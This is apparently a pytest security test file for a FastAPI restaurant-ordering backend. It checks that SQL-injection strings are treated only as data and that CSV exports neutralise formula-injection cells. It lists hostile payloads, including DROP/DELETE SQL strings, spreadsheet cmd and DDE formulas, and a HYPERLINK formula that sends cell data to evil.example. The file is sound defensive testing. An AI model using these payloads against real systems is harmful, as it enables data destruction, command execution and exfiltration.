"""S6: injection.

SQL: every string parameter of every operation in the OpenAPI document (path and query
parameters, top-level string fields of JSON bodies) receives SQL-injection strings, sent
with the credential the route needs. No reply may be a server error; when every such
request of an operation was refused no table's row count may move, and when one was
accepted (the string stored or searched for as data) no table may shrink.

CSV: the defusedcsv attack table, written into the data of every CSV export, comes back
neutralised (a spreadsheet shows it as text), and numbers such as -1.3 come back unchanged.
"""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest
from fastapi.routing import APIRoute

from servio.kit.policy import route_policies
from servio.models import QrPackExport
from tests.security.conftest import LiveApp
from tests.soak import record, size

SQLI = [
    "' OR '1'='1",
    "'; DROP TABLE orders; --",
    '" OR 1=1 --',
    "1) UNION SELECT NULL, NULL--",
    "%' AND 1=0 UNION SELECT name FROM sqlite_master--",
    "1; DELETE FROM menu_items WHERE 1=1",
    "\\'; SELECT pg_sleep(0); --",
    "$1::text",
][: size(8, 8)]

ATTACKS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "|cmd",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _resolve(doc: dict[str, Any], node: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in node:
        node = doc["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
    return node


def _is_string(doc: dict[str, Any], schema: dict[str, Any]) -> bool:
    schema = _resolve(doc, schema)
    if schema.get("type") == "string":
        return True
    return any(_is_string(doc, s) for s in schema.get("anyOf", []) if isinstance(s, dict))


def _placeholder(doc: dict[str, Any], schema: dict[str, Any]) -> Any:
    schema = _resolve(doc, schema)
    if "anyOf" in schema:
        return _placeholder(doc, schema["anyOf"][0])
    if "enum" in schema:
        return schema["enum"][0]
    kind = schema.get("type")
    return {"string": "x", "integer": 1, "number": 1, "boolean": False, "array": []}.get(
        str(kind), {}
    )


def targets(live: LiveApp) -> list[tuple[str, str, str, str, dict[str, Any]]]:
    """(method, path template, where, name, base JSON body) for every string parameter."""
    doc = live.app.openapi()
    out: list[tuple[str, str, str, str, dict[str, Any]]] = []
    for path, operations in doc["paths"].items():
        if path.endswith("/stream"):
            continue  # a server-sent event stream never ends
        for method, operation in operations.items():
            for param in operation.get("parameters", []):
                if param["in"] in ("path", "query") and _is_string(doc, param.get("schema", {})):
                    out.append((method.upper(), path, param["in"], param["name"], {}))
            content = operation.get("requestBody", {}).get("content", {})
            if "application/json" not in content:
                continue
            body_schema = _resolve(doc, content["application/json"].get("schema", {}))
            props = body_schema.get("properties", {})
            base = {k: _placeholder(doc, props[k]) for k in body_schema.get("required", [])}
            for name, prop in props.items():
                if _is_string(doc, prop):
                    out.append((method.upper(), path, "body", name, base))
    return out


def _policy_kinds(live: LiveApp) -> dict[tuple[str, str], str]:
    kinds: dict[tuple[str, str], str] = {}
    for route in live.app.routes:
        if isinstance(route, APIRoute):
            found = {p.kind for p in route_policies(route)}
            for method in route.methods:
                kinds[(method, route.path)] = found.pop() if len(found) == 1 else "public"
    return kinds


def test_sql_injection_strings_are_only_ever_data(live: LiveApp) -> None:
    kinds = _policy_kinds(live)
    owner = live.fresh_owner_headers()
    server_errors: list[str] = []
    moved: list[str] = []
    sent = 0
    expired = False
    by_operation: dict[tuple[str, str], list[tuple[str, str, dict[str, Any]]]] = {}
    for method, path, where, name, base in targets(live):
        by_operation.setdefault((method, path), []).append((where, name, base))
    for (method, path), params in by_operation.items():
        kind = kinds.get((method, path), "public")
        before = live.table_counts()
        statuses: list[int] = []
        for where, name, base in params:
            for payload in SQLI:
                auth = {
                    "guest": live.guest_headers,
                    "provider": live.provider_headers,
                    "public": {},
                }.get(kind, owner)
                headers = {**auth, "Idempotency-Key": str(uuid.uuid4())}
                url = path.replace("{qr_token}", live.bistro.token)
                url = url.replace("{session_id}", live.session_id)
                kwargs: dict[str, Any] = {"headers": headers}
                if where == "path":
                    url = url.replace("{" + name + "}", payload.replace("/", "%2F"))
                elif where == "query":
                    kwargs["params"] = {name: payload}
                else:
                    kwargs["json"] = {**base, name: payload}
                url = url.replace("{", "").replace("}", "")  # other ids: a literal non-id
                reply = live.request(method, url, **kwargs)
                sent += 1
                statuses.append(reply.status_code)
                if reply.status_code >= 500:
                    server_errors.append(f"{method} {path} {where}:{name}={payload!r} → 500")
                expired = expired or (reply.status_code == 401 and kind != "public")
        after = live.table_counts()
        if expired:  # a PIN lockout or a logout ended the owner's session: a new one
            owner, expired = live.fresh_owner_headers(), False
        accepted = any(s < 400 for s in statuses)
        for table, count in before.items():
            if (accepted and after[table] < count) or (
                not accepted and after[table] != count and table not in _BOOKKEEPING
            ):
                moved.append(f"{method} {path}: {table} {count} → {after[table]}")
    record("S6-sql", live.backend, requests=sent, server_errors=len(server_errors))
    assert sent > 500
    assert server_errors == []
    assert moved == [], "\n".join(moved)


# Rows a refused request may still write: the audit trail, the failed-PIN counter behind
# the lockout, and the idempotency store of replies.
_BOOKKEEPING = frozenset({"audit_log", "idempotency_keys", "pin_attempts"})


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_exports_neutralise_formulas_and_keep_numbers(live: LiveApp, attack: str) -> None:
    marker = uuid.uuid4().hex

    async def seed() -> None:
        async with live.db.unit_of_work(tenant_id=live.bistro.tenant.id) as uow:
            uow.session.add(
                QrPackExport(
                    tenant_id=live.bistro.tenant.id,
                    outlet_id=live.bistro.outlet.id,
                    requested_by=None,
                    format="html",
                    params={"label_fmt": attack, "kind": attack, "size": -1.3, "per_page": 12},
                    service_points=3,
                    bytes=-13,
                    cache_key=marker,
                )
            )

    live.run(seed)
    reply = live.request(
        "GET", "/api/v1/tables/qr-pack/exports.csv", headers=live.fresh_owner_headers()
    )
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(reply.text.lstrip("\ufeff"), newline="")))
    mine = [r for r in rows if r["cache_key"] == marker]
    assert len(mine) == 1, rows
    for row in mine:
        assert row["size"] == "-1.3"
        assert row["per_page"] == "12"  # numbers come back unchanged
        assert row["bytes"] == "-13"
        for column in ("label_fmt", "kind"):
            cell = row[column]
            assert not cell.startswith(FORMULA_START), (column, cell)
            assert cell.lstrip("'") == attack, (column, cell)
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(FORMULA_START) or _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
